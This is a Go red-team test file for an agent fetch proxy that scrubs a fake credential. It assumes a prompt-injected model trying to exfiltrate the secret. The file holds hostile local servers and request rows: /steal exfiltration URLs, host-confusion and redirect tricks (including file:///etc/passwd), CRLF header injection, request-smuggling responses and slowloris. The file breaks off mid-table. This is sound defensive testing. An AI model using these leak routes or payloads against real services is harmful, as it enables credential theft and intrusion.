package tests

import (
	"bytes"
	"compress/gzip"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/damperdev/damper/tests/agents"
)

// TestRedTeam is the adversarial table of docs/architecture.md's security
// claim, run against both hosts: a prompt-injected model drives a naive
// fetch tool (probe.tool: any method, URL, headers and body, several at
// once, every read echoed back), service "vault" owns the secret RT_TOKEN
// and echoes it carelessly in every form the scrubber claims to find, and
// service "open" reaches a hostile origin that answers with whatever bytes
// it likes. Every row must fail closed: the secret never reaches the
// module (so neither the model nor the client), in any form the scrubber
// knows; no origin but the vault ever receives it; and the host stays up.
func TestRedTeam(t *testing.T) {
	e := newRedTeam(t)
	env := map[string]string{
		"DAMPER_TARGETS":     "vault=" + e.vault.URL + ",open=" + e.attacker.URL,
		"DAMPER_RUN_TIMEOUT": redTeamRunTimeout.String(),
		"RT_TOKEN":           e.secret,
	}
	forEachHost(t, token, env, func(t *testing.T, h host) {
		c := &client{h: h, token: token}
		_, local := h.(*localHost)
		for i, row := range redTeamRows {
			if row.localOnly != "" && !local {
				continue // an attack on the local host's own defence
			}
			t.Run(row.name, func(t *testing.T) {
				e.vault.take()
				e.attacker.take()
				agent := "probe.tool"
				if row.report {
					agent = "probe.tool.report"
				}
				payload, err := json.Marshal(agents.ToolIn{Requests: row.reqs(e)})
				require.NoError(t, err)
				r := c.post(t, agent, fmt.Sprintf("rt-%d", i), string(payload))
				e.assertNoLeak(t, "the reply to the client", string(r.body))
				var out struct {
					Result agents.ToolOut `json:"result"`
				}
				if r.status == http.StatusOK {
					require.NoError(t, json.Unmarshal(r.body, &out), "%s", r.body)
				}
				got := rtReply{status: r.status, body: string(r.body), results: out.Result.Results, attacker: e.attacker.take(), vault: e.vault.take()}
				for _, rec := range got.attacker {
					e.assertNoLeak(t, "the hostile origin", rec.text())
				}
				for _, rec := range got.vault {
					e.assertOnlyCredentials(t, rec)
				}
				t.Logf("%d %s", r.status, truncate(r.body))
				if row.want != nil {
					row.want(t, e, got)
				}
				// Whatever the origin did, the host still serves.
				assert.Equal(t, 1, c.visits(t, fmt.Sprintf("rt-alive-%d", i), "x"), "the host did not survive the row")
			})
		}
	})
}

// redTeamRunTimeout bounds the rows whose origin never finishes.
const redTeamRunTimeout = 12 * time.Second

// rtRow is one attack: the requests the model makes, and what failing
// closed means for it beyond the checks every row gets.
type rtRow struct {
	name      string
	localOnly string // non-empty: why the attack is on the local host's own defence only
	report    bool   // run probe.tool.report, whose policy sends what it would deny
	reqs      func(e *redTeam) []agents.ToolRequest
	want      func(t *testing.T, e *redTeam, r rtReply)
}

type rtReply struct {
	status  int
	body    string
	results []agents.ToolResult
	// What each origin received during the row.
	attacker, vault []recorded
}

// one returns the only result, failing unless the run answered 200.
func (r rtReply) one(t *testing.T) agents.ToolResult {
	t.Helper()
	require.Equal(t, http.StatusOK, r.status, "%s", r.body)
	require.Len(t, r.results, 1)
	return r.results[0]
}

type redTeam struct {
	secret          string
	vault, attacker *hostileServer
}

func newRedTeam(t *testing.T) *redTeam {
	b := make([]byte, 16)
	_, err := rand.Read(b)
	require.NoError(t, err)
	// Obviously fake, random per run, with characters that encode
	// differently in base64, percent-encoding, JSON and HTML.
	e := &redTeam{secret: "fake-rt+" + hex.EncodeToString(b) + "/="}
	e.vault = newHostileServer(t, e.serveVault)
	e.attacker = newHostileServer(t, e.serveAttacker)
	return e
}

// forms are the spellings of the secret that must never reach the module,
// nor any origin but the vault: the scrubber's claimed encodings and the
// random core, which no encoding of the whole leaves intact but hex.
func (e *redTeam) forms() map[string]string {
	s := e.secret
	core := strings.TrimSuffix(strings.TrimPrefix(s, "fake-rt+"), "/=")
	return map[string]string{
		"raw":        s,
		"core":       core,
		"base64":     base64.StdEncoding.EncodeToString([]byte(s)),
		"base64url":  base64.RawURLEncoding.EncodeToString([]byte(s)),
		"hex":        hex.EncodeToString([]byte(s)),
		"HEX":        strings.ToUpper(hex.EncodeToString([]byte(s))),
		"core hex":   hex.EncodeToString([]byte(core)),
		"query":      url.QueryEscape(s),
		"basic":      base64.StdEncoding.EncodeToString([]byte("rt-user:" + s)),
		"json /":     strings.ReplaceAll(s, "/", `\/`),
		"json+query": url.QueryEscape(strings.ReplaceAll(s, "/", `\/`)),
	}
}

func (e *redTeam) assertNoLeak(t *testing.T, where, text string) {
	t.Helper()
	// Chunked framing handed over as body (as workerd did after a 103)
	// splits the secret with chunk sizes.
	unframed := chunkLine.ReplaceAllString(strings.ReplaceAll(text, `\r\n`, "\r\n"), "")
	for name, f := range e.forms() {
		if strings.Contains(text, f) || strings.Contains(unframed, f) {
			t.Errorf("the secret (%s) reached %s: %s", name, where, truncate([]byte(text)))
		}
	}
}

var chunkLine = regexp.MustCompile(`\r\n([0-9a-fA-F]+\r\n)?`)

// assertOnlyCredentials checks that the vault got the secret only where the
// host puts it: in Authorization and X-Basic.
func (e *redTeam) assertOnlyCredentials(t *testing.T, r recorded) {
	t.Helper()
	rest := r
	rest.Header = r.Header.Clone()
	if got := rest.Header.Get("Authorization"); got != "" {
		assert.Equal(t, "Bearer "+e.secret, got, "the vault's credential")
	}
	rest.Header.Del("Authorization")
	rest.Header.Del("X-Basic")
	e.assertNoLeak(t, "the vault outside its credential headers", rest.text())
}

// echo is the encoding of the secret (as the vault received it) that
// /echo/NAME answers: every one is in the scrubber's documented list.
func echo(name, s string) (string, bool) {
	b := []byte(s)
	each := func(f func(c byte) string) string {
		var out strings.Builder
		for _, c := range b {
			out.WriteString(f(c))
		}
		return out.String()
	}
	switch name {
	case "raw":
		return s, true
	case "base64":
		return base64.StdEncoding.EncodeToString(b), true
	case "base64url":
		return base64.RawURLEncoding.EncodeToString(b), true
	case "base64-inside":
		return base64.StdEncoding.EncodeToString([]byte("{\"authorization\":\"" + s + "\",\"n\":1}")), true
	case "base64-wrapped":
		enc := base64.StdEncoding.EncodeToString([]byte("prefix text " + s + " suffix text"))
		var w strings.Builder
		for len(enc) > 16 {
			w.WriteString(enc[:16] + "\r\n")
			enc = enc[16:]
		}
		return w.String() + enc, true
	case "hex":
		return hex.EncodeToString(b), true
	case "HEX-odd":
		return "f" + strings.ToUpper(hex.EncodeToString(b)), true
	case "pct-all":
		return each(func(c byte) string { return fmt.Sprintf("%%%02X", c) }), true
	case "pct-lower":
		return each(func(c byte) string { return fmt.Sprintf("%%%02x", c) }), true
	case "query":
		return url.QueryEscape(s), true
	case "json-u":
		return each(func(c byte) string { return fmt.Sprintf(`\u%04X`, c) }), true
	case "json-slash":
		return strings.ReplaceAll(s, "/", `\/`), true
	case "html-dec":
		return each(func(c byte) string { return fmt.Sprintf("&#%d;", c) }), true
	case "html-hex-padded":
		return each(func(c byte) string { return fmt.Sprintf("&#x%08x;", c) }), true
	case "html-no-semicolon":
		return each(func(c byte) string { return fmt.Sprintf("&#%d", c) }), true
	case "html-named":
		return strings.NewReplacer("+", "&plus;", "/", "&sol;", "=", "&equals;", "-", "&#45;").Replace(s), true
	case "basic":
		return base64.StdEncoding.EncodeToString([]byte("rt-user:" + s)), true
	case "json-then-pct":
		return url.PathEscape(strings.ReplaceAll(s, "/", `\/`)), true
	}
	return "", false
}

var echoNames = []string{
	"raw", "base64", "base64url", "base64-inside", "base64-wrapped", "hex", "HEX-odd", "pct-all", "pct-lower",
	"query", "json-u", "json-slash", "html-dec", "html-hex-padded", "html-no-semicolon", "html-named", "basic", "json-then-pct",
}

// serveVault is the owning origin: a careless API that echoes the
// credential it receives, in the form the path names, and a few worse
// things. It answers 401 to a request without the credential.
func (e *redTeam) serveVault(c *rawConn, r *http.Request, _ []byte) {
	secret, ok := strings.CutPrefix(r.Header.Get("Authorization"), "Bearer ")
	if !ok {
		_ = c.write("HTTP/1.1 401 Unauthorized\r\nContent-Length: 13\r\nConnection: close\r\n\r\nno credential")
		return
	}
	path := r.URL.Path
	q := r.URL.Query()
	switch {
	case strings.HasPrefix(path, "/echo/"):
		enc, ok := echo(strings.TrimPrefix(path, "/echo/"), secret)
		if !ok {
			_ = c.write("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
			return
		}
		body := "before " + enc + " after"
		if q.Get("drip") == "" {
			echoHeader := ""
			if !strings.ContainsAny(enc, "\r\n") {
				echoHeader = "X-Echo: " + enc + "\r\n"
			}
			_ = c.write(fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n%sContent-Length: %d\r\nConnection: close\r\n\r\n%s", echoHeader, len(body), body))
			return
		}
		// Chunked, a few bytes at a time: the secret arrives split across
		// many reads of the host.
		_ = c.write("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n")
		for len(body) > 0 {
			n := min(3, len(body))
			_ = c.write(fmt.Sprintf("%x\r\n%s\r\n", n, body[:n]))
			body = body[n:]
			c.pause(2 * time.Millisecond)
		}
		_ = c.write("0\r\n\r\n")
	case path == "/location":
		// The credential reflected into a redirect to the hostile origin.
		enc, _ := echo(q.Get("form"), secret)
		_ = c.write(fmt.Sprintf("HTTP/1.1 302 Found\r\nLocation: %s/steal?t=%s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", q.Get("to"), enc))
	case path == "/redirect":
		_ = c.write(fmt.Sprintf("HTTP/1.1 302 Found\r\nLocation: %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", q.Get("to")))
	case path == "/header-name":
		// The credential as a header name, hex (a valid token) and raw.
		enc, _ := echo(q.Get("form"), secret)
		_ = c.write(fmt.Sprintf("HTTP/1.1 200 OK\r\nX-%s: 1\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok", enc))
	case path == "/status-text":
		_ = c.write(fmt.Sprintf("HTTP/1.1 200 %s\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok", secret))
	case path == "/bad-line":
		// A malformed header line that holds the credential: the
		// transport's error quotes it.
		_ = c.write(fmt.Sprintf("HTTP/1.1 200 OK\r\n%s\r\nContent-Length: 2\r\n\r\nok", secret))
	case path == "/trailer":
		_ = c.write(fmt.Sprintf("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\nConnection: close\r\n\r\n2\r\nok\r\n0\r\nX-Echo: %s\r\n\r\n", secret))
	case path == "/te-gzip":
		// The echo compressed under Transfer-Encoding instead of
		// Content-Encoding.
		var buf bytes.Buffer
		zw := gzip.NewWriter(&buf)
		_, _ = zw.Write([]byte("auth=" + secret))
		_ = zw.Close()
		_ = c.write(fmt.Sprintf("HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\nConnection: close\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", buf.Len(), buf.String()))
	case path == "/early-hints":
		_ = c.write("HTTP/1.1 103 Early Hints\r\nLink: </style.css>; rel=preload\r\n\r\n")
		body := "before " + secret + " after"
		if q.Get("then") == "gzip" {
			var buf bytes.Buffer
			zw := gzip.NewWriter(&buf)
			_, _ = zw.Write([]byte(body))
			_ = zw.Close()
			_ = c.write(fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", buf.Len(), buf.String()))
			return
		}
		_ = c.write("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n")
		for len(body) > 0 {
			n := min(3, len(body))
			_ = c.write(fmt.Sprintf("%x\r\n%s\r\n", n, body[:n]))
			body = body[n:]
		}
		_ = c.write("0\r\n\r\n")
	case path == "/ce-spaced":
		var buf bytes.Buffer
		zw := gzip.NewWriter(&buf)
		_, _ = zw.Write([]byte("auth=" + secret))
		_ = zw.Close()
		_ = c.write(fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Encoding : gzip\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", buf.Len(), buf.String()))
	default:
		_ = c.write("HTTP/1.1 200 OK\r\nContent-Length: 8\r\nConnection: close\r\n\r\nvault ok")
	}
}

// serveAttacker is the hostile origin "open" reaches: it never holds the
// secret, and answers whatever is worst for the host.
func (e *redTeam) serveAttacker(c *rawConn, r *http.Request, _ []byte) {
	q := r.URL.Query()
	switch r.URL.Path {
	case "/redirect":
		_ = c.write(fmt.Sprintf("HTTP/1.1 %s Found\r\nLocation: %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", cmpOr(q.Get("code"), "302"), q.Get("to")))
	case "/oracle":
		// One guess at the secret's next character, then a pause: what the
		// host hands out before the pause must not depend on the guess.
		_ = c.write("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: close\r\n\r\n}" + q.Get("p"))
		c.pause(600 * time.Millisecond)
		_ = c.write("}")
	case "/forever":
		_ = c.write("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: close\r\n\r\n")
		chunk := strings.Repeat("x", 64<<10)
		for c.write(chunk) == nil {
		}
	case "/slowloris":
		_ = c.write("HTTP/1.1 200 OK\r\n")
		for i := 0; c.write(fmt.Sprintf("X-Drip-%d: a\r\n", i)) == nil; i++ {
			c.pause(time.Second)
		}
	case "/huge-header":
		n, _ := strconv.Atoi(q.Get("n"))
		_ = c.write("HTTP/1.1 200 OK\r\nX-Huge: " + strings.Repeat("h", n) + "\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
	case "/many-headers":
		n, _ := strconv.Atoi(q.Get("n"))
		var b strings.Builder
		b.WriteString("HTTP/1.1 200 OK\r\n")
		for i := range n {
			fmt.Fprintf(&b, "X-H%d: v\r\n", i)
		}
		b.WriteString("Content-Length: 2\r\nConnection: close\r\n\r\nok")
		_ = c.write(b.String())
	case "/bad-chunked":
		_ = c.write("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\nnot a chunk\r\n")
	case "/early-hints":
		_ = c.write("HTTP/1.1 103 Early Hints\r\nLink: </x>; rel=preload\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhints")
	case "/switch":
		_ = c.write("HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: x-raw\r\n\r\nraw bytes after the switch")
	case "/status":
		_ = c.write(fmt.Sprintf("HTTP/1.1 %s Whatever\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok", q.Get("code")))
	case "/binary-header":
		_ = c.write("HTTP/1.1 200 OK\r\nX-Bin: \xff\xfe\x80 \xc3\x28\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
	case "/nul-header":
		_ = c.write("HTTP/1.1 200 OK\r\nX-Nul: a\x00b\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
	case "/cl-te":
		_ = c.write("HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
	case "/double-cl":
		_ = c.write("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello")
	case "/short-body":
		_ = c.write("HTTP/1.1 200 OK\r\nContent-Length: 100\r\nConnection: close\r\n\r\nonly this")
	default:
		_ = c.write("HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nnothing")
	}
}

// nameRedacted: the response came back with the secret in its odd header
// name replaced by the redaction.
func nameRedacted(t *testing.T, res agents.ToolResult) {
	t.Helper()
	require.Empty(t, res.Error)
	for _, h := range res.Headers {
		if strings.Contains(h[0], "[REDACTED:RT_TOKEN]") {
			return
		}
	}
	t.Errorf("no header name was redacted: %+v", res)
}

func cmpOr(a, b string) string {
	if a != "" {
		return a
	}
	return b
}

func get(u string) agents.ToolRequest { return agents.ToolRequest{URL: u} }

// hostPort is a test server's "127.0.0.1:PORT".
func hostPort(s *hostileServer) string { return strings.TrimPrefix(s.URL, "http://") }

func port(s *hostileServer) string { return s.URL[strings.LastIndexByte(s.URL, ':')+1:] }

var redTeamRows = func() []rtRow {
	var rows []rtRow
	add := func(r rtRow) { rows = append(rows, r) }
	// denied: the policy refused the request, and nothing was sent.
	denied := func(t *testing.T, _ *redTeam, r rtReply) {
		res := r.one(t)
		assert.True(t, res.Denied, "%+v", res)
		assert.Empty(t, r.attacker, "sent")
		assert.Empty(t, r.vault, "sent")
	}
	// failed: refused by the policy or before it, and nothing was sent.
	failed := func(t *testing.T, _ *redTeam, r rtReply) {
		res := r.one(t)
		assert.True(t, res.Denied || res.Error != "", "%+v", res)
		assert.Empty(t, r.attacker, "sent")
		assert.Empty(t, r.vault, "sent")
	}

	// The model addresses the secret's placeholder itself.
	add(rtRow{name: "placeholder in a header to the open service", reqs: func(e *redTeam) []agents.ToolRequest {
		return []agents.ToolRequest{{URL: e.attacker.URL + "/steal", Headers: [][2]string{{"X-Probe", "${secret:RT_TOKEN}"}}}}
	}, want: denied})
	add(rtRow{name: "placeholder in a header to the owning service", reqs: func(e *redTeam) []agents.ToolRequest {
		return []agents.ToolRequest{{URL: e.vault.URL + "/", Headers: [][2]string{{"X-Probe", "${secret:RT_TOKEN}"}}}}
	}, want: denied})
	add(rtRow{name: "basic placeholder in a header", reqs: func(e *redTeam) []agents.ToolRequest {
		return []agents.ToolRequest{{URL: e.attacker.URL + "/steal", Headers: [][2]string{{"X-Probe", "${basic:rt-user:RT_TOKEN}"}}}}
	}, want: denied})
	add(rtRow{name: "placeholder in the query and body go out as text", reqs: func(e *redTeam) []agents.ToolRequest {
		return []agents.ToolRequest{{Method: "POST", URL: e.attacker.URL + "/steal?t=${secret:RT_TOKEN}", Body: "${secret:RT_TOKEN}"}}
	}, want: func(t *testing.T, e *redTeam, r rtReply) {
		// Only headers are substituted, and only for their owner.
		require.Len(t, r.attacker, 1)
		assert.Equal(t, "/steal?t=$%7Bsecret:RT_TOKEN%7D", r.attacker[0].Target)
		assert.Equal(t, "${secret:RT_TOKEN}", r.attacker[0].Body)
	}})

	// Host confusion: URLs two parsers could read as two origins.
	for _, c := range []struct{ name, url string }{
		{"userinfo naming the vault", "http://{vault}@{attacker}/steal"},
		{"userinfo naming the attacker", "http://{attacker}@{vault}/"},
		{"backslash before @", "http://{attacker}\\@{vault}/"},
		{"backslash as a slash", "http:\\\\{attacker}/steal"},
		{"mixed slashes", "http:/\\{attacker}/steal"},
		{"no slashes", "http:{attacker}/steal"},
		{"one slash", "http:/{attacker}/steal"},
		{"vault host, another port", "http://127.0.0.1:1/"},
		{"vault as IPv4-mapped IPv6", "http://[::ffff:127.0.0.1]:{vaultport}/"},
		{"vault as localhost", "http://localhost:{vaultport}/"},
		{"vault over https", "https://{vault}/"},
		{"percent-encoded host", "http://127.0.0.1%2e:{vaultport}/"},
		{"encoded @ in host", "http://{attacker}%40{vault}/"},
		{"NUL in host", "http://{vault}%00.evil/"},
		{"tab in host", "http://127.0.0.1\t:{vaultport}/"},
		{"ideographic dot lookalike of another host", "http://localhost\u3002:{vaultport}/"},
		{"fullwidth digits of another port", "http://{vaultip}:\uff11/"},
		{"space in authority", "http://{vault} @{attacker}/"},
		{"IPv6 zone", "http://[fe80::1%25lo]:{vaultport}/"},
		{"port beyond 65535", "http://127.0.0.1:{vaultport}0/"},
	} {
		add(rtRow{name: "host confusion: " + c.name, reqs: func(e *redTeam) []agents.ToolRequest {
			u := strings.NewReplacer("{vault}", hostPort(e.vault), "{attacker}", hostPort(e.attacker),
				"{vaultport}", port(e.vault), "{vaultip}", "127.0.0.1").Replace(c.url)
			return []agents.ToolRequest{get(u)}
		}, want: failed})
	}
	// Spellings of the vault's own origin reach the vault, and only it.
	for _, c := range []struct{ name, url string }{
		{"trailing dot", "http://127.0.0.1.:{vaultport}/echo/raw"},
		{"upper-case scheme", "HTTP://127.0.0.1:{vaultport}/echo/raw"},
		{"short IPv4", "http://127.1:{vaultport}/echo/raw"},
		{"hex IPv4", "http://0x7f.0.0.1:{vaultport}/echo/raw"},
		{"decimal IPv4", "http://2130706433:{vaultport}/echo/raw"},
		{"octal IPv4", "http://0177.0.0.1:{vaultport}/echo/raw"},
		{"leading zeros in the port", "http://127.0.0.1:00{vaultport}/echo/raw"},
		{"ideographic dots", "http://127\u30020\u30020\u30021:{vaultport}/echo/raw"},
		{"dot segments", "http://127.0.0.1:{vaultport}/x/../echo/./raw"},
		{"encoded dot segments", "http://127.0.0.1:{vaultport}/x/%2e%2E/echo/raw"},
		{"a fragment holding @ and another host", "http://127.0.0.1:{vaultport}/echo/raw#@evil.example/"},
		{"a query holding @ and another host", "http://127.0.0.1:{vaultport}/echo/raw?@evil.example/"},
	} {
		add(rtRow{name: "vault spelled as " + c.name, reqs: func(e *redTeam) []agents.ToolRequest {
			return []agents.ToolRequest{get(strings.ReplaceAll(c.url, "{vaultport}", port(e.vault)))}
		}, want: func(t *testing.T, e *redTeam, r rtReply) {
			res := r.one(t)
			if !res.Denied && res.Error == "" {
				assert.Equal(t, "before [REDACTED:RT_TOKEN] after", res.Body, "%+v", res)
			}
		}})
	}

	// Redirects.
	add(rtRow{name: "redirect from the hostile origin to the vault", reqs: func(e *redTeam) []agents.ToolRequest {
		return []agents.ToolRequest{{Follow: true, URL: e.attacker.URL + "/redirect?to=" + url.QueryEscape(e.vault.URL+"/echo/raw")}}
	}, want: func(t *testing.T, e *redTeam, r rtReply) {
		assert.Equal(t, "before [REDACTED:RT_TOKEN] after", r.one(t).Body)
	}})
	for _, form := range []string{"raw", "base64", "pct-all", "hex", "basic", "json-u", "query"} {
		add(rtRow{name: "vault reflects the credential into a redirect to the hostile origin: " + form, reqs: func(e *redTeam) []agents.ToolRequest {
			return []agents.ToolRequest{{Follow: true, URL: e.vault.URL + "/location?form=" + form + "&to=" + url.QueryEscape(e.attacker.URL)}}
		}, want: func(t *testing.T, e *redTeam, r rtReply) {
			// The guest follows the Location it got: scrubbed.
			require.Len(t, r.attacker, 1, "%+v", r.results)
			assert.Contains(t, r.attacker[0].Target, "REDACTED:RT_TOKEN")
		}})
	}
	reachedWithoutCredential := func(t *testing.T, e *redTeam, r rtReply) {
		res := r.one(t)
		if res.Denied || res.Error != "" {
			assert.Empty(t, r.attacker)
			return
		}
		require.Len(t, r.attacker, 1, "%+v", res)
		assert.Empty(t, r.attacker[0].Header.Values("Authorization"))
		assert.Empty(t, r.attacker[0].Header.Values("X-Basic"))
	}
	for _, c := range []struct{ name, loc string }{
		{"protocol-relative", "//{attacker}/steal"},
		{"lookalike host with trailing dot", "http://localhost.:{vaultport}/echo/raw"},
		{"userinfo", "http://{vault}@{attacker}/steal"},
		{"backslashes", "/\\{attacker}/steal"},
		{"https downgrade to http", "http://{attacker}/steal"},
		{"scheme without slashes", "http:{attacker}/steal"},
		{"tab in the Location", "http://{attack\ter}/steal"},
		{"file scheme", "file:///etc/passwd"},
		{"data scheme", "data:text/plain,stolen"},
		{"ftp scheme", "ftp://{attacker}/steal"},
	} {
		add(rtRow{name: "vault redirects, " + c.name, reqs: func(e *redTeam) []agents.ToolRequest {
			loc := strings.NewReplacer("{vault}", hostPort(e.vault), "{attacker}", hostPort(e.attacker), "{attack\ter}", strings.Replace(hostPort(e.attacker), ".", "\t.", 1), "{vaultport}", port(e.vault)).Replace(c.loc)
			return []agents.ToolRequest{{Follow: true, URL: e.vault.URL + "/redirect?to=" + url.QueryEscape(loc)}}
		}, want: reachedWithoutCredential})
	}
	add(rtRow{name: "307 from the hostile origin replays a POST body to the vault", reqs: func(e *redTeam) []agents.ToolRequest {
		return []agents.ToolRequest{{Follow: true, Method: "POST", Body: "payload", URL: e.attacker.URL + "/redirect?code=307&to=" + url.QueryEscape(e.vault.URL+"/echo/raw")}}
	}, want: func(t *testing.T, e *redTeam, r rtReply) {
		// The hop is decided as a request to the vault, which allows it,
		// with the vault's credential; what it answers is scrubbed.
		assert.Equal(t, "before [REDACTED:RT_TOKEN] after", r.one(t).Body)
		require.Len(t, r.vault, 1)
		assert.Equal(t, [2]string{"POST", "payload"}, [2]string{r.vault[0].Method, r.vault[0].Body})
	}})

	// Smuggling methods and headers.
	for _, h := range []string{"X-HTTP-Method-Override", "x-http-method", "X-Method-Override"} {
		add(rtRow{name: "method override: " + h, reqs: func(e *redTeam) []agents.ToolRequest {
			return []agents.ToolRequest{{URL: e.vault.URL + "/limited", Headers: [][2]string{{h, "DELETE"}}}}
		}, want: denied})
	}
	for _, h := range [][2]string{
		{"Host", "{attacker}"}, {"Transfer-Encoding", "chunked"}, {"Content-Length", "0"}, {"Connection", "close, Authorization"},
		{"X-Forwarded-Host", "{attacker}"}, {"Forwarded", "host={attacker}"}, {"Accept-Encoding", "gzip"}, {"TE", "trailers"},
		{"Upgrade", "h2c"}, {"Authorization", "Bearer model-chosen"}, {"X-Basic", "model-chosen"}, {"Proxy-Authorization", "x"},
	} {
		add(rtRow{name: "model-set header " + h[0] + " is not sent", reqs: func(e *redTeam) []agents.ToolRequest {
			v := strings.ReplaceAll(h[1], "{attacker}", hostPort(e.attacker))
			return []agents.ToolRequest{{URL: e.vault.URL + "/", Headers: [][2]string{{h[0], v}}}}
		}, want: func(t *testing.T, e *redTeam, r rtReply) {
			res := r.one(t)
			assert.Equal(t, "vault ok", res.Body, "%+v", res)
		}})
	}
	for _, c := range []struct{ name, value string }{
		{"CRLF", "a\r\nAuthorization: Bearer x"}, {"LF", "a\nX-Evil: 1"}, {"CR", "a\rX-Evil: 1"}, {"NUL", "a\x00b"},
	} {
		add(rtRow{name: "header injection with " + c.name, reqs: func(e *redTeam) []agents.ToolRequest {
			return []agents.ToolRequest{{URL: e.attacker.URL + "/steal", Headers: [][2]string{{"X-Probe", c.value}}}}
		}, want: failed})
	}
	add(rtRow{name: "header name with CRLF", reqs: func(e *redTeam) []agents.ToolRequest {
		return []agents.ToolRequest{{URL: e.attacker.URL + "/steal", Headers: [][2]string{{"X-Probe\r\nX-Evil", "1"}}}}
	}, want: failed})
	for _, m := range []string{"CONNECT", "TRACE", "TRACK", "G ET", "GET\r\n", "get /x HTTP/1.1\r\nHost: a\r\n\r\nGET"} {
		add(rtRow{name: "method " + strconv.Quote(m), reqs: func(e *redTeam) []agents.ToolRequest {
			return []agents.ToolRequest{{Method: m, URL: e.attacker.URL + "/steal"}}
		}, want: failed})
	}

	// Limits.
	add(rtRow{name: "a count limit under 8 concurrent requests", reqs: func(e *redTeam) []agents.ToolRequest {
		var reqs []agents.ToolRequest
		for range 8 {
			reqs = append(reqs, get(e.vault.URL+"/limited"))
		}
		return reqs
	}, want: func(t *testing.T, e *redTeam, r rtReply) {
		require.Equal(t, http.StatusOK, r.status, "%s", r.body)
		sent := 0
		for _, res := range r.results {
			if !res.Denied {
				sent++
			}
		}
		assert.Equal(t, 2, sent, "%+v", r.results)
	}})
	add(rtRow{name: "a never-ending body read whole", reqs: func(e *redTeam) []agents.ToolRequest {
		return []agents.ToolRequest{{Follow: true, URL: e.attacker.URL + "/forever"}}
	}, want: func(t *testing.T, e *redTeam, r rtReply) {
		assert.Contains(t, r.one(t).Error, "exceeds 33554432 bytes")
	}})
	add(rtRow{name: "a slow-loris origin that never ends its headers", reqs: func(e *redTeam) []agents.ToolRequest {
		return []agents.ToolRequest{get(e.attacker.URL + "/slowloris")}
	}, want: func(t *testing.T, e *redTeam, r rtReply) {
		assert.Equal(t, http.StatusGatewayTimeout, r.status, "%s", r.body)
	}})
	for _, c := range []struct {
		n  int
		ok bool
	}{{64 << 10, true}, {129 << 10, false}, {12 << 20, false}} {
		add(rtRow{name: fmt.Sprintf("a %d-byte response header", c.n), reqs: func(e *redTeam) []agents.ToolRequest {
			return []agents.ToolRequest{get(fmt.Sprintf("%s/huge-header?n=%d", e.attacker.URL, c.n))}
		}, want: func(t *testing.T, e *redTeam, r rtReply) {
			// Both hosts read at most 128 KiB of a response's head.
			if res := r.one(t); c.ok {
				assert.Equal(t, "ok", res.Body, "%+v", res.Error)
			} else {
				assert.NotEmpty(t, res.Error)
			}
		}})
	}
	add(rtRow{name: "20000 response headers", reqs: func(e *redTeam) []agents.ToolRequest {
		return []agents.ToolRequest{get(e.attacker.URL + "/many-headers?n=20000")}
	}, want: func(t *testing.T, e *redTeam, r rtReply) {
		assert.NotEmpty(t, r.one(t).Error, "about 200 KiB of head")
	}})

	// Hostile responses: refused, or read as HTTP reads them; never the
	// bytes of a response as the body of another.
	for _, c := range []struct {
		path string
		want func(t *testing.T, res agents.ToolResult)
	}{
		{"/bad-chunked", func(t *testing.T, res agents.ToolResult) { assert.NotEmpty(t, res.Error) }},
		{"/early-hints", func(t *testing.T, res agents.ToolResult) {
			// Go's transport skips the 103 and reads the answer; workerd
			// hands the 103 over as final, which the host refuses.
			if res.Error == "" {
				assert.Equal(t, [2]any{200, "hints"}, [2]any{res.Status, res.Body})
			} else {
				assert.Contains(t, res.Error, "refusing an interim response (status 103)")
			}
		}},
		{"/switch", func(t *testing.T, res agents.ToolResult) {
			assert.Contains(t, res.Error, "refusing an interim response (status 101)")
		}},
		{"/status?code=099", func(t *testing.T, res agents.ToolResult) {
			// The Go host refuses it as interim; workerd (1.20261117)
			// fails the fetch itself ("Network connection lost.").
			assert.NotEmpty(t, res.Error)
			assert.Zero(t, res.Status)
		}},
		{"/status?code=0", func(t *testing.T, res agents.ToolResult) { assert.NotEmpty(t, res.Error) }},
		{"/status?code=999", func(t *testing.T, res agents.ToolResult) { assert.Equal(t, 999, res.Status) }},
		{"/binary-header", func(t *testing.T, res agents.ToolResult) { assert.Equal(t, "ok", res.Body) }},
		{"/nul-header", func(t *testing.T, res agents.ToolResult) { assert.NotEmpty(t, res.Error) }},
